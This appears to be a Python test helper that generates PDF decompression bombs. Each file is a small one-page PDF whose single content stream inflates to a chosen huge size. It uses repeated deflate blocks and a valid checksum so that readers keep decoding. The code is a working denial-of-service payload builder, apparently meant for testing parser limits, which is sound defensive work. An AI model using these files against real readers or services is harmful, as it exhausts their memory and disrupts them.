"""Hostile PDFs made by code: a small file whose one content stream inflates hugely."""

from __future__ import annotations

import zlib

_BLOCK = 1 << 16


def flate_of_repeats(size: int, fill: bytes = b" ") -> bytes:
    """A zlib stream of ``size`` bytes of ``fill``, built from one repeated deflate block.

    Compressing a gigabyte would take seconds; a block compressed once from an
    empty history and flushed is self-contained, so copies of it decode one
    after another. The Adler-32 at the end is right, so no reader stops early.
    """
    chunk = fill * (_BLOCK // len(fill))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    count = size // len(chunk)
    check = 1
    for _ in range(count):
        check = zlib.adler32(chunk, check)
    return b"\x78\xda" + block * count + end + check.to_bytes(4, "big")


def one_page_pdf(content: bytes) -> bytes:
    """A one-page PDF whose content stream is ``content``, Flate-compressed already."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def flate_bomb(size: int) -> bytes:
    """A one-page PDF of about size/800 bytes whose content inflates to ``size`` bytes."""
    return one_page_pdf(flate_of_repeats(size))
